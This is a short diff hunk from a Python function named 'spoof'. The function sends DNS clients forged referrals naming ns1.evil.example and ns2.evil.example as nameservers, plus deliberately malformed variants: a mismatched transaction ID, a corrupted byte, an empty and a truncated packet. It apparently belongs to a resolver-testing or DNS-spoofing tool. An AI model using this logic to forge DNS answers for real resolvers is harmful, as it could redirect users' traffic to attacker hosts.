@@ -117,7 +117,7 @@ def spoof(sock, query, client):
     false = referral(query, name, ["ns1.evil.example", "ns2.evil.example"])
     number = struct.unpack("!H", query[:2])[0]
     sock.sendto(struct.pack("!H", number ^ 1) + false[2:], client)
-    sock.sendto(false[:12] + false[12:].replace(name[:3], b"\x02zz", 1), client)
+    sock.sendto(false[:13] + b"0" + false[14:], client)
     sock.sendto(query, client)
     sock.sendto(b"", client)
     sock.sendto(false[:7], client)
